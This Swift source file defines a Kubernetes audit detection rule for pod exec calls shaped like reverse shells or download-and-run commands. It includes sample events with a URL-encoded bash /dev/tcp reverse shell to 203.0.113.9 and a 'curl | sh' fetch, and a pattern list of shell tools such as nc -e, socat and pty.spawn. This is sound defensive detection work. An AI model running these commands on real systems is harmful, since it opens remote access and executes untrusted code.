struct ReverseShell: CommandDetection {
  static let about = DetectionAbout(
    "AUD-EXEC-07", .critical, "Exec in the shape of a reverse shell or download",
    why: """
      The session calls out for more.
      """,
    serves: ["threat/api-from-pod", "threat/atypical-request-pattern"], techniques: ["T1059.004", "T1105"],
    scope: EventScope(["pods/exec"], [.get, .create], attempts: true),
    runbook: .interactiveAccess,
    fires: [
      EventExample(
        "a shell over TCP",
        #"""
        {"verb":"get","user":{"username":"jane"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"},"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F443+0%3E%261","responseStatus":{"code":101}}
        """#),
      EventExample(
        "fetched and run",
        #"""
        {"verb":"get","user":{"username":"jane"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"},"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl+http://x/y+%7C+sh","responseStatus":{"code":101}}
        """#),
    ],
    quiet: [
      EventExample(
        "a health check",
        #"""
        {"verb":"get","user":{"username":"jane"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"},"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=curl&command=http://localhost:8080/healthz","responseStatus":{"code":101}}
        """#)
    ])

  func find(in command: String, words: [String]) -> String? {
    let text = command.lowercased()
    if let shape = Self.shapes.first(where: { text.holds($0) }) { return "ran \(shape)" }
    let fetches = text.holds(word: "curl") || text.holds(word: "wget")
    let decodes = text.holds("base64 -d") || text.holds("base64 --decode")
    guard fetches || decodes else { return nil }
    let shells = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "| perl"]
    return shells.contains { text.holds($0) } ? "ran what it fetched" : nil
  }

  private static let shapes = [
    "/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "nc -c", "mkfifo", "socat exec", "socat tcp", "bash -i",
    "import socket", "import pty", "pty.spawn", "use socket",
  ]
}
